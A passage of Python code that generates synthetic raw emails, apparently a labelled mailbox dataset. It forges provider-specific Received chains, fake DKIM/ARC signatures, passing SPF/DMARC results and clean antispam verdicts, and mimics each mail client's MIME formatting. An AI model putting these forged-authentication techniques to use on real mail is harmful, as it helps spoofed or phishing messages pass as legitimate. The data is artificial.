        hops.insert(0, ("X-Received", f"by 2002:a05:6902:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}-{hx(12)}.{R.randint(10, 99)}.{int(t.timestamp())};\n        {pac(t + TD(seconds=1))}"))
        hops.insert(0, ("Received", f"by {helo} with SMTP id {hx(16)}sor{R.randint(10**7, 10**8 - 1)}{alnum(3).lower()}.{R.randint(10, 99)}\n        for <dkowalski@{OWN}>\n"
                                    f"        (Google Transport Security);\n        {pac(t + TD(seconds=1))}"))
        hops[1:1] = [("X-Google-Smtp-Source", "AGHT+I" + alnum(80)), ("X-Gm-Message-State", "AOJu0Y" + alnum(60) + "=="),
                     ("X-Google-DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(t.timestamp())}; x={int(t.timestamp()) + 604800};\n"
                                                 f"        h=x-gm-message-state:from:to:subject:date:message-id:reply-to;\n        bh={b64(32)};\n        b={fb(250)}")]
    elif ik in ("aol", "yahoo"):
        hops.append(("Received", f"from sonic.gate.mail.ne1.yahoo.com by {helo} with HTTP; {rfc_utc(t)}"))
        hops[0:0] = [("X-YMail-OSG", ".".join(alnum(60) for _ in range(5)).replace(".", "\n ", 2)), ("X-Sonic-MF", f"<{who.email}>"), ("X-Sonic-ID", ruuid())]
        hops.insert(0, ("X-SONIC-DKIM-SIGN", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d=yahoo.com; s=s2048; t={int(t.timestamp())}; bh={b64(32)}; h=X-Sonic-MF:Date:From:To:Subject; b={fb(250)}"))
    elif ik == "aol-ir2":
        hops.append(("Received", f"by hermes--production-ir2-{hx(10)}-{alnum(5).lower()} (VZM Hermes SMTP Server) with ESMTPA ID {hx(32)};\n          {rfc_utc(t)}"))
        hops[0:0] = [("X-YMail-OSG", ".".join(alnum(60) for _ in range(5)).replace(".", "\n ", 2)), ("X-Sonic-MF", f"<{who.email}>"), ("X-Sonic-ID", ruuid())]
    elif ik == "comcast":
        hops.append(("Received", f"from oxapp-hoa-{R.randint(10, 40)}o.email.comcast.net ([96.118.{R.randint(1, 40)}.{R.randint(2, 250)}])\n\tby {helo} with ESMTPA\n\tid {alnum(14)}; {rfc_loc(t, ET, pad=True)}"))
        hops.insert(0, ("X-Xfinity-VAAS", f"gggruggvucftvghtrhhoucdtuddrgeefuddrudejvddgheekucetufdoteggodetrfdotf"))
        hops.insert(0, ("X-Xfinity-VMeta", f"sc=-100.00;st=legit"))
    elif ik == "icloud":
        hops.append(("Received", f"from smtpclient.apple (st43p00im-asmtp002.me.com [17.58.63.{R.randint(160, 190)}])\n\tby {helo} (Postfix) with ESMTPSA id {HX(12)}\n"
                                 f"\tfor <dkowalski@{OWN}>; {rfc_loc(t, UTC, pad=True)} (UTC)"))
        hops.insert(0, ("X-Proofpoint-GUID", alnum(32))); hops.insert(0, ("X-Proofpoint-ORIG-GUID", alnum(32)))
    elif ik == "cpanel-midohio":
        hops.append(("Received", f"from [::1] (port={R.randint(40000, 60000)} helo=gator4172.hostgator.example)\n\tby gator4172.hostgator.example with esmtpa (Exim 4.96.2)\n"
                                 f"\t(envelope-from <{who.email}>)\n\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n\tfor dkowalski@{OWN};\n\t{rfc_loc(t, CT, pad=True)}"))
    elif ik == "cp-ridgeline":
        hops.append(("Received", f"from [103.21.59.172] (port={R.randint(40000, 60000)} helo=cp-wh-3-4.webhostbox.example)\n\tby cp-wh-3-4.webhostbox.example with esmtpa (Exim 4.96.2)\n"
                                 f"\t(envelope-from <{who.email}>)\n\tid 1t{alnum(4)}-00{alnum(4)}-{alnum(2)}\n\tfor dkowalski@{OWN};\n"
                                 f"\t{rfc_loc(t, datetime.timezone(TD(hours=5, minutes=30)), pad=True)}"))
    elif ik in ("sg-oit", "sg-claimbridge"):
        hops.append(("Received", f"from {ik.split('-')[1]}-app (unknown)\n\tby geopod-ismtpd-{R.randint(1, 12)} (SG) with HTTP\n\tid {alnum(22)}\n\t{t.astimezone(UTC):%a, %d %b %Y %H:%M:%S.%f}"[:-3] + " +0000 (UTC)"))
        fd = f"filterdrecv-{hx(10)}-{alnum(5).lower()}"
        hops.insert(0, ("Received", f"by {fd} with SMTP id {fd}-1-{HX(8)}-{R.randint(10, 99)}\n"
                                    f"\t{t.astimezone(UTC):%Y-%m-%d %H:%M:%S}.{R.randint(100000000, 999999999)} +0000 UTC m=+{R.randint(1000, 99999)}.{R.randint(100000000, 999999999)}"))
    elif ik in ("ses-gldb", "ses-mds"):
        pass
    elif ik == "zd-openchair":
        hops.append(("Received", f"from zendesk.example (unknown [10.{R.randint(1, 200)}.{R.randint(1, 250)}.{R.randint(1, 250)}])\n\tby outbyip04.pod17.use1.zdsys.example (Postfix) with ESMTP id {HX(10)}\n"
                                 f"\tfor <dkowalski@{OWN}>; {rfc_loc(t, UTC, pad=True)} (UTC)"))
    elif ik == "pbx-bv":
        hops.append(("Received", f"from pbx-vm-core03.int.buckeyevoice.example (unknown [10.40.2.{R.randint(10, 60)}])\n\tby vmail02.pbx.buckeyevoice.example (Postfix) with ESMTP id {HX(10)}\n"
                                 f"\tfor <dkowalski@{OWN}>; {rfc_loc(t, ET, pad=True)} ({t.astimezone(ET):%Z})"))
    elif ik == "list-cods":
        ph, pip = inf.get("poster", ("mail-qt1-f176.google.com", "209.85.160.176"))
        hops.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={who.dom}; s={'20230601' if who.dom == 'gmail.com' else 's2048' if who.dom == 'yahoo.com' else 'selector1'};\n"
                                       f"\tt={int(t.timestamp())}; bh={b64(32)};\n\th=From:To:Subject:Date:Message-ID:MIME-Version;\n\tb={fb(170)}"))
        hops.insert(0, ("Received", f"from {ph} ({ph} [{pip}])\n\tby lists.cods.example (Postfix) with ESMTPS id {HX(10)}\n\tfor <cods-pm@lists.cods.example>;"
                                    f" {rfc_loc(t, ET, pad=True)} ({t.astimezone(ET):%Z})"))
        hops.insert(0, ("Received", f"from lists.cods.example (localhost [127.0.0.1])\n\tby lists.cods.example (Postfix) with ESMTP id {HX(10)};\n"
                                    f"\t{rfc_loc(t + TD(seconds=4), ET, pad=True)} ({t.astimezone(ET):%Z})"))
        hops[0:0] = [("ARC-Seal", f"i=1; a=rsa-sha256; d=lists.cods.example; s=list2022; t={int(t.timestamp()) + 4}; cv=none;\n\tb={fb(170)}"),
                     ("ARC-Message-Signature", f"i=1; a=rsa-sha256; c=relaxed/simple; d=lists.cods.example;\n\ts=list2022; t={int(t.timestamp()) + 4};\n\th=from:from:reply-to:subject:subject:date:date:message-id:message-id:to:to:cc;\n"
                                               f"\tbh={b64(32)};\n\tb={fb(170)}"),
                     ("ARC-Authentication-Results", f"i=1; lists.cods.example;\n\tdkim=pass header.d={who.dom};\n\tdmarc=pass (policy={'none' if who.dom in ('gmail.com', 'hilliardpeds.example') else 'reject'}) header.from={who.dom};\n"
                                                    f"\tspf=pass (lists.cods.example: domain of {who.email} designates {pip} as permitted sender) smtp.mailfrom={who.email}")]
    elif ik == "mc-cods":
        hops.append(("Received", f"from localhost (localhost [127.0.0.1])\n\tby mail38.atl221.mcdlv.net (Mailchimp) with ESMTP id 4X{alnum(10)}\n\tfor <dkowalski@{OWN}>; {rfc_loc(t, UTC, pad=True)}"))
    elif ik == "outlookcom":
        h = f"SJ0P220MB{R.randint(1000, 9999)}"
        hops.append(("Received", f"from {h}.NAMP220.PROD.OUTLOOK.COM\n ([{fe80()}]) by {h}.NAMP220.PROD.OUTLOOK.COM\n ([{fe80()}%6]) with mapi id {exo_build(t)}; {rfc_utc(t)}"))
    elif ik == "pe-hmlook":
        hops.append(("Received", f"from APP-13 (unknown [10.20.151.{R.randint(100, 200)}])\n\tby mta-13.privateemail.example (Postfix) with ESMTPA id 4Z{alnum(10)}\n"
                                 f"\tfor <dkowalski@{OWN}>; {rfc_loc(t, ET, pad=True)} ({t.astimezone(ET):%Z})"))
    elif ik in ("vps-gldbv", "vps-pdv"):
        hops.append(("Received", f"from [{orig_ip}] (unknown [{orig_ip}])\n\tby {helo} (Postfix) with ESMTPSA id {HX(10)}\n\tfor <dkowalski@{OWN}>; {rfc_loc(t, UTC, pad=True)} (UTC)"))
    dk = []
    sig_t = int(t.timestamp())
    for d, s in INFRA[ik]["dk"]:
        if inf.get("exo"):
            dk.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n s={s};\n h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;\n"
                                         f" bh={b64(32)};\n b={fb(190)}"))
        elif d in ("gmail.com", "keystonerevenue.example"):
            dk.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d={d}; s={s}; t={sig_t}; x={sig_t + 604800}; darn={OWN};\n"
                                         f"        h=to:subject:message-id:date:from:in-reply-to:references\n         :mime-version:from:to:cc:subject:date:message-id:reply-to;\n"
                                         f"        bh={b64(32)};\n        b={fb(250)}"))
        else:
            dk.append(("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={sig_t}; bh={b64(32)};\n\th=Date:From:To:Subject:Message-ID:MIME-Version:Content-Type;\n\tb={fb(170)}"))
    return hops + dk


AUTH_OVERRIDE = {}


def transport(who, ik, t, client, orig_ip=None, env=None, auth=None, lang="en"):
    """headers written by EOP (top) and the Org headers it appends after the message headers (tail)"""
    inf = INFRA[ik]
    helo, ip = R.choice(inf["helo"])
    envdom = inf.get("env") or who.email.split("@")[1]
    fromdom = who.email.split("@")[1]
    t1 = t + TD(seconds=R.randint(2, 25)); t2 = t1 + TD(milliseconds=R.randint(200, 900)); t3 = t2 + TD(milliseconds=R.randint(200, 1400))
    fe = R.choice(["BN2PEPF000044A5", "BN1PEPF0000468D", "MN1PEPF0000ECD9", "BL02EPF0001A0FB", "BN3PEPF0000B36F"])
    ca = f"{R.choice(['BN9PR03CA', 'MN2PR05CA', 'BL1PR13CA', 'SA9PR13CA', 'CH2PR07CA'])}{R.randint(1000, 9999):04d}"
    b = exo_build(t)
    dks = ";".join(f"dkim=pass (signature was verified)\n header.d={d}" for d, s in inf["dk"])
    dm = inf["dmarc"]
    if auth is None:
        auth = f"spf=pass (sender IP is {ip})\n smtp.mailfrom={envdom}; {dks};dmarc=" + (f"pass action=none\n header.from={fromdom};compauth=pass reason=100" if dm else
                                                                                       f"none action=none\n header.from={fromdom};compauth=pass reason=109")
    top = [("Received", f"from {EXO[OWN]['host']}.namprd04.prod.outlook.com ({v6()}) by\n {MBX2}.namprd04.prod.outlook.com with HTTPS; {rfc_utc(t3)}"),
           ("Received", f"from {ca}.namprd03.prod.outlook.com ({v6()}) by\n {EXO[OWN]['host']}.namprd04.prod.outlook.com ({v6()}) with Microsoft SMTP Server\n"
                        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {b}; {rfc_utc(t2)}"),
           ("Received", f"from {fe}.namprd04.prod.outlook.com\n (2603:10b6:408:{hx(3)}:cafe::{hx(2)}) by {ca}.outlook.office365.com\n ({v6()}) with Microsoft SMTP Server (version=TLS1_3,\n"
                        f" cipher=TLS_AES_256_GCM_SHA384) id {b} via Frontend Transport; {rfc_utc(t2)}"),
           ("Authentication-Results", auth),
           ("Received-SPF", f"Pass (protection.outlook.com: domain of {envdom}\n designates {ip} as permitted sender) receiver=protection.outlook.com;\n client-ip={ip}; helo={helo}; pr=C"),
           ("Received", f"from {helo} ({ip}) by\n {fe}.mail.protection.outlook.com (10.167.{R.randint(240, 250)}.{R.randint(2, 250)}) with Microsoft SMTP Server\n"
                        f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {b} via Frontend Transport; {rfc_utc(t1)}")]
    top += sender_hops(who, ik, t, client, orig_ip, helo)
    tail = [("Return-Path", env if env else (f"bounces+{R.randint(10**6, 10**7)}-{hx(4)}-dkowalski={OWN}@{envdom}" if ik.startswith("sg-") else
                             f"{hx(16)}-{ruuid()}-000000@{envdom}" if ik.startswith("ses-") else who.email if not inf.get("env") else f"bounce-{hx(10)}@{envdom}")),
            ("X-MS-Exchange-Organization-ExpirationStartTime", f"{t1.astimezone(UTC):%d %b %Y %H:%M:%S}.{R.randint(1000, 9999)} (UTC)"),
            ("X-MS-Exchange-Organization-ExpirationStartTimeReason", "OriginalSubmit"),
            ("X-MS-Exchange-Organization-ExpirationInterval", "1:00:00:00.0000000"),
            ("X-MS-Exchange-Organization-ExpirationIntervalReason", "OriginalSubmit"),
            ("X-MS-Exchange-Organization-Network-Message-Id", ruuid()),
            ("X-EOPAttributedMessage", "0"), ("X-EOPTenantAttributedMessage", f"{EXO[OWN]['tid']}:0"),
            ("X-MS-Exchange-Organization-MessageDirectionality", "Incoming"), ("X-MS-PublicTrafficType", "Email"),
            ("X-MS-Exchange-Organization-AuthSource", f"{fe}.namprd04.prod.outlook.com"), ("X-MS-Exchange-Organization-AuthAs", "Anonymous"),
            ("X-MS-Exchange-Organization-SCL", "1"),
            ("X-Forefront-Antispam-Report", f"CIP:{ip};CTRY:{inf['ctry']};LANG:{lang};SCL:1;SRV:;IPV:NLI;SFV:NSPM;H:{helo};PTR:{helo};"
                                            f"CAT:NONE;SFS:({R.randint(13000000, 13300000)})({R.randint(4000000, 4700000)});DIR:INB;"),
            ("X-MS-Exchange-CrossTenant-OriginalArrivalTime", f"{t1.astimezone(UTC):%d %b %Y %H:%M:%S}.{R.randint(1000, 9999)} (UTC)"),
            ("X-MS-Exchange-CrossTenant-Network-Message-Id", ruuid()), ("X-MS-Exchange-CrossTenant-Id", EXO[OWN]["tid"]),
            ("X-MS-Exchange-CrossTenant-AuthSource", f"{fe}.namprd04.prod.outlook.com"), ("X-MS-Exchange-CrossTenant-AuthAs", "Anonymous"),
            ("X-MS-Exchange-CrossTenant-FromEntityHeader", "Internet"),
            ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", f"{EXO[OWN]['host']}"),
            ("X-MS-Exchange-Transport-EndToEndLatency", f"00:00:{R.randint(2, 9):02d}.{R.randint(1000000, 9999999)}"),
            ("X-MS-Exchange-Processed-By-BccFoldering", b)]
    return top, tail


def internal_transport(who, t, client):
    b = exo_build(t); t2 = t + TD(milliseconds=R.randint(300, 2500))
    top = [("Received", f"from {EXO[OWN]['host']}.namprd04.prod.outlook.com ({v6()}) by\n {MBX2}.namprd04.prod.outlook.com with HTTPS; {rfc_utc(t2)}"),
           ("Received", f"from {who.host}.namprd04.prod.outlook.com\n ([{fe80()}]) by {who.host}.namprd04.prod.outlook.com\n ([{fe80()}%{R.randint(3, 7)}]) with mapi id {b}; {rfc_utc(t)}")]
    tail = [("Return-Path", who.email), ("X-MS-Exchange-Organization-Network-Message-Id", ruuid()),
            ("X-MS-Exchange-Organization-AuthSource", f"{who.host}.namprd04.prod.outlook.com"), ("X-MS-Exchange-Organization-AuthAs", "Internal"),
            ("X-MS-Exchange-Organization-AuthMechanism", "04"), ("X-MS-Exchange-Organization-MessageDirectionality", "Originating"),
            ("X-MS-Exchange-Organization-SCL", "-1"), ("X-MS-Exchange-Transport-EndToEndLatency", f"00:00:0{R.randint(0, 2)}.{R.randint(1000000, 9999999)}"),
            ("X-MS-Exchange-Processed-By-BccFoldering", b)]
    return top, tail


UA = {"tb": ("User-Agent", "Mozilla Thunderbird"), "tbsmtp": ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.5.2"),
      "rc": ("User-Agent", "Roundcube Webmail/1.6.9"), "rcold": ("User-Agent", "Roundcube Webmail/1.4.11"), "iphone": ("X-Mailer", "iPhone Mail (22B91)"),
      "aol": ("X-Mailer", "WebService/1.1.22645 AolMailNorrin"), "yahoo": ("X-Mailer", "WebService/1.1.22645 YMailNorrin"),
      "ymand": ("X-Mailer", "WebService/1.1.22645 YahooMailAndroidMobile"), "xfin": ("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev58"),
      "oxpe": ("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev70"), "olsmtp": ("X-Mailer", "Microsoft Outlook 16.0"),
      "phpmailer": ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"), "psa": ("X-Mailer", "OIT-PSA Notification Service 11.4"),
      "zd": ("X-Mailer", "Zendesk Mailer")}

pending = []   # (arrival utc, seq, folder, raw, (mid, label) or None, scenario)
seq = [0]


def addr(n, e):
    if not n: return e
    return f'"{n}" <{e}>' if any(c in n for c in ".,|()@:") else f"{n} <{e}>"


def enc_h(v): return v if v.isascii() else "=?UTF-8?B?" + base64.b64encode(v.encode()).decode() + "?="


def qp(text): return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def flowed(text, width=72):
    """format=flowed soft line breaks (RFC 3676) as Roundcube/Thunderbird write them"""
    out = []
    for line in text.split("\n"):
        pfx = ""
        while line.startswith(">") or (pfx and line.startswith(" >")): pfx += ">"; line = line[1:] if line.startswith(">") else line[2:]
        if pfx and line.startswith(" "): line = line[1:]
        lead = (pfx + " ") if pfx else ""
        if len(lead + line) <= 78 or line == "-- ": out.append((lead + line) if line or not pfx else pfx); continue
        words = line.split(" "); cur = ""
        for w in words:
            if cur and len(lead + cur + w) > width: out.append(lead + cur); cur = ""
            cur += w + " "
        out.append(lead + cur.rstrip(" "))
    return "\n".join(out)


def textpart(client, ctype, text):
    if ctype == "text/plain" and client in ("rc", "rcold", "tb", "tbsmtp"): text = flowed(text)
    long = max(len(x) for x in text.split("\n")) > 900
    if client in ("olk", "owa", "olkios", "outlookcom"):
        return [f'Content-Type: {ctype}; charset="utf-8"', "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
    if client == "olsmtp":
        if text.isascii() and not long: return [f'Content-Type: {ctype};\n\tcharset="us-ascii"', "Content-Transfer-Encoding: 7bit", "", text]
        return [f'Content-Type: {ctype};\n\tcharset="utf-8"', "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
    if client in ("gws", "gmail", "gmailios", "gcal"):
        if text.isascii() and max(len(x) for x in text.split("\n")) < 77: return [f'Content-Type: {ctype}; charset="UTF-8"', "", text]
        return [f'Content-Type: {ctype}; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
    if client in ("iphone",) and ctype == "text/plain":
        if text.isascii() and not long: return ["Content-Type: text/plain;\n\tcharset=us-ascii", "Content-Transfer-Encoding: 7bit", "", text]
        return ["Content-Type: text/plain;\n\tcharset=utf-8", "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
    if client in ("rc", "rcold") and ctype == "text/plain":
        cs = "US-ASCII" if text.isascii() else "UTF-8"
        if long or not text.isascii(): return [f"Content-Type: text/plain; charset={cs};\n format=flowed", "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
        return [f"Content-Type: text/plain; charset={cs};\n format=flowed", "Content-Transfer-Encoding: 7bit", "", text]
    if client in ("tb", "tbsmtp") and ctype == "text/plain":
        return ["Content-Type: text/plain; charset=UTF-8; format=flowed", "Content-Transfer-Encoding: " + ("7bit" if text.isascii() and not long else "8bit"), "", text]
    if client in ("aol", "yahoo", "ymand", "aolsmtp", "xfin", "oxpe"):
        if text.isascii() and not long: return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: 7bit", "", text]
        return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", qp(text)]
    return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", qp(text)]


def boundary(client, who, t, kind="alt"):
    if client in ("olk", "owa", "olkios", "outlookcom"):
        h = who.host or "SJ0P220MB" + str(R.randint(1000, 9999)); return f"_{'000' if kind == 'alt' else '004'}_{h}{HX(16)}_"
    if client == "olsmtp": return f"----=_NextPart_{'000' if kind == 'mixed' else '001'}_00{HX(2)}_01DB{HX(4)}.{HX(8)}"
    if client in ("gws", "gmail", "gmailios", "gcal"): return "000000000000" + hx(16)
    if client in ("aol", "yahoo", "ymand", "xfin", "oxpe"): return f"----=_Part_{R.randint(10**5, 9 * 10**6)}_{R.randint(10**8, 2 * 10**9)}.{int(t.timestamp() * 1000) + R.randint(1, 999)}"
    if client == "iphone": return f"Apple-Mail-{ruuid().upper()}"
    if client in ("rc", "rcold"): return "=_" + hx(32)
    if client in ("tb", "tbsmtp"): return "------------" + alnum(24)
    if client == "phpmailer": return "b1_" + alnum(43)
    if client == "psa": return "--boundary_" + str(R.randint(10**6, 10**7)) + "_" + ruuid()
    return "=_" + hx(28)


def emit(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), label=None, infra=None, frm=None, irt=None, mid=None,
         tidx=None, topic=None, scen=None, orig_ip=None, folder=None, no_html=False, xoip=None, env=None, auth=None, date_tz=None, inline_imgs=False, lang=None):
    m = mid or make_mid(who, client, t)
    folder = folder or ("Sent" if who is me else "INBOX")
    top, tail = [], []
    if folder == "INBOX":
        if who.dom == OWN and (infra or who.infra) == "int": top, tail = internal_transport(who, t, client)
        else: top, tail = transport(who, infra or who.infra, t, client, orig_ip, env, auth, lang or ("es" if ("Hola" in plain[:80] or "\u00bf" in plain[:300]) else "en"))
    fromh = frm or addr(who.name, who.email)
    toh = ", ".join(addr(n, e) for n, e in to)
    cch = ", ".join(addr(n, e) for n, e in cc) if cc else None
    # Date as each client writes it
    if client in ("olk", "owa", "olkios", "outlookcom", "psa", "zd"): date = rfc_utc(t) if client not in ("psa", "zd") else rfc_loc(t, UTC, pad=True)
    elif client in ("aol", "yahoo", "ymand"): date = rfc_utc(t) + " (UTC)"
    elif client in ("xfin", "oxpe"): date = rfc_loc(t, date_tz or ET) + f" ({t.astimezone(date_tz or ET):%Z})"
    elif client in ("rc", "rcold", "phpmailer"): date = rfc_loc(t, date_tz or who.tz, pad=True)
    else: date = rfc_loc(t, date_tz or who.tz)
    refl = list(refs)
    irt = irt or (refl[-1] if refl else None)
    subj_h = enc_h(subj)
    H_ = []
    if client in ("olk", "owa", "olkios", "outlookcom"):
        H_ += [("From", fromh), ("To", toh)] + ([("CC", cch)] if cch else []) + [("Subject", subj_h), ("Thread-Topic", enc_h(topic or subj.split(": ", 1)[-1])),
               ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode()), ("Date", date), ("Message-ID", m)]
        if refl: H_ += [("References", "\n ".join(refl)), ("In-Reply-To", irt)]
        H_ += [("Accept-Language", "en-US"), ("Content-Language", "en-US"), ("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if folder == "INBOX" and (infra or who.infra).startswith("exo:"):
            h2 = (who.host or "X")[:-4] + str(R.randint(1000, 9999))
            H_ += [("X-MS-Exchange-MessageSentRepresentingType", "1"), ("X-MS-TrafficTypeDiagnostic", f"{who.host}:EE_|{h2}:EE_"),
                   ("X-MS-Office365-Filtering-Correlation-Id", ruuid()), ("X-MS-Exchange-SenderADCheck", "1"), ("X-MS-Exchange-AntiSpam-Relay", "0"),
                   ("X-Microsoft-Antispam-Message-Info", fb(240, "\n "))]
        H_ += [("__CT__", None), ("MIME-Version", "1.0")]
    elif client in ("gws", "gmail", "gmailios"):
        H_ += [("MIME-Version", "1.0")] + ([("References", "\n ".join(refl)), ("In-Reply-To", irt)] if refl else [])
        H_ += [("From", fromh), ("Date", date), ("Message-ID", m), ("Subject", subj_h), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("__CT__", None)]
    elif client == "olsmtp":
        H_ += [("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + ([("References", "\n ".join(refl)), ("In-Reply-To", irt)] if refl else [])
        H_ += [("Subject", subj_h), ("Date", date), ("Message-ID", m), ("MIME-Version", "1.0"), ("__CT__", None), UA["olsmtp"],
               ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode()), ("Content-Language", "en-us")]
    elif client in ("aol", "yahoo", "ymand"):
        H_ += [("Date", date), ("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Message-ID", m)]
        if refl: H_ += [("In-Reply-To", irt), ("References", "\n ".join(refl))]
        H_ += [("Subject", subj_h), ("MIME-Version", "1.0"), ("__CT__", None), UA[client]]
    elif client == "aolsmtp":
        H_ += [("From", fromh), ("To", toh), ("Subject", subj_h), ("Date", date), ("Message-ID", m)]
        if refl: H_ += [("In-Reply-To", irt), ("References", "\n ".join(refl))]
        H_ += [("MIME-Version", "1.0"), ("__CT__", None)]
    elif client in ("xfin", "oxpe"):
        H_ += [("Date", date), ("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Message-ID", m)]
        if refl: H_ += [("In-Reply-To", irt), ("References", "\n ".join(refl))]
        H_ += [("Subject", subj_h), ("MIME-Version", "1.0"), ("__CT__", None), ("X-Priority", "3"), ("Importance", "Normal"), UA[client],
               ("X-Originating-IP", xoip or "73.{}.{}.{}".format(*hashlib.md5(who.email.encode()).digest()[:3])), ("X-Originating-Client", "open-xchange-appsuite")]
    elif client == "iphone":
        H_ += [("From", fromh), ("__CT__", None), ("Mime-Version", "1.0 (1.0)"), ("Subject", subj_h), ("Date", date)]
        if refl: H_ += [("References", "\n ".join(refl)), ("In-Reply-To", irt)]
        H_ += [("To", toh)] + ([("Cc", cch)] if cch else []) + [("Message-Id", m), UA["iphone"]]
    elif client in ("rc", "rcold"):
        H_ += [("MIME-Version", "1.0"), ("Date", date), ("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Subject", subj_h)]
        if refl: H_ += [("In-Reply-To", irt), ("References", "\n ".join(refl))]
        H_ += [UA[client], ("Message-ID", m), ("X-Sender", who.email), ("__CT__", None)]
    elif client in ("tb", "tbsmtp"):
        H_ += [("Message-ID", m), ("Date", date), ("MIME-Version", "1.0"), UA[client], ("Subject", subj_h), ("To", toh)] + ([("Cc", cch)] if cch else [])
        if refl: H_ += [("References", "\n ".join(refl))]
        H_ += [("Content-Language", "en-US"), ("From", fromh)] + ([("In-Reply-To", irt)] if refl else []) + [("__CT__", None)]
    elif client == "phpmailer":
        H_ += [("Date", date), ("To", toh), ("From", fromh), ("Subject", subj_h), ("Message-ID", m), UA["phpmailer"], ("MIME-Version", "1.0"), ("__CT__", None)]
    else:   # notification systems
        H_ += [("From", fromh), ("To", toh)] + ([("Cc", cch)] if cch else []) + [("Subject", subj_h), ("Date", date), ("Message-ID", m)]
        if refl: H_ += [("In-Reply-To", irt), ("References", "\n ".join(refl))]
        if client in UA: H_.append(UA[client])
        H_ += [("MIME-Version", "1.0"), ("__CT__", None)]
    if folder == "INBOX" and client == "tbsmtp" and (infra or who.infra).startswith("exo:"):   # EXO stamps these on SMTP-submitted mail too
        h2 = (who.host or "X")[:-4] + str(R.randint(1000, 9999))
        H_ += [("X-MS-Exchange-MessageSentRepresentingType", "1"), ("X-MS-TrafficTypeDiagnostic", f"{who.host}:EE_|{h2}:EE_"),
               ("X-MS-Office365-Filtering-Correlation-Id", ruuid()), ("X-MS-Exchange-SenderADCheck", "1"), ("X-MS-Exchange-AntiSpam-Relay", "0"),
               ("X-Microsoft-Antispam-Message-Info", fb(240, "\n "))]
    # body
    if html is None and not no_html: html = html_of(client, plain)
    alt = textpart(client, "text/plain", plain)
    if html:
        ab = boundary(client, who, t, "alt")
        alt = [f'Content-Type: multipart/alternative;\n\tboundary="{ab}"', "", f"--{ab}"] + textpart(client, "text/plain", plain) + [f"--{ab}"] + \
              textpart(client, "text/html", html) + [f"--{ab}--", ""]
    if atts:
        mb = boundary(client, who, t, "mixed")
        body = [f'Content-Type: multipart/mixed;\n\tboundary="{mb}"', "", f"--{mb}"] + alt
        for name, data, ctype in atts:
            enc = base64.encodebytes(data).decode().rstrip("\n")
            if client in ("gws", "gmail", "gmailios"):
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64",
                         f"Content-ID: <f_{alnum(9).lower()}0>", f"X-Attachment-Id: f_{alnum(9).lower()}0", "", enc]
            elif client in ("olk", "owa", "olkios", "outlookcom"):
                cd = t.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Description: {name}',
                         f'Content-Disposition: attachment; filename="{name}"; size={len(data)};\n\tcreation-date="{cd}";\n\tmodification-date="{cd}"',
                         "Content-Transfer-Encoding: base64", "", enc]
            elif client == "iphone":
                body += [f"--{mb}", "Content-Transfer-Encoding: base64", f"Content-Disposition: {'inline' if inline_imgs else 'attachment'};\n\tfilename={name}",
                         f"Content-Type: {ctype};\n\tx-unix-mode=0644;\n\tname=\"{name}\"", f"Content-Id: <{ruuid().upper()}>" if inline_imgs else None, "", enc]
                body = [x for x in body if x is not None]
            else:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', "Content-Transfer-Encoding: base64",
                         f'Content-Disposition: attachment; filename="{name}"', "", enc]
        body += [f"--{mb}--", ""]
    else:
        body = alt
    ctl = []   # split the content-type header lines out of the body list
    i = 0
    while body[i] != "": ctl.append(body[i]); i += 1
    body = body[i + 1:]
    hdr_lines = []
    for k, v in top: hdr_lines.append(f"{k}: {v}")
    for k, v in H_:
        if k == "__CT__": hdr_lines += ctl
        else: hdr_lines.append(f"{k}: {v}")
    ik_ = infra or who.infra
    if folder == "INBOX" and ik_ in ("cpanel-midohio", "cp-ridgeline"):
        ph = INFRA[ik_]["helo"][0][0]
        extra = list(extra) + [("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
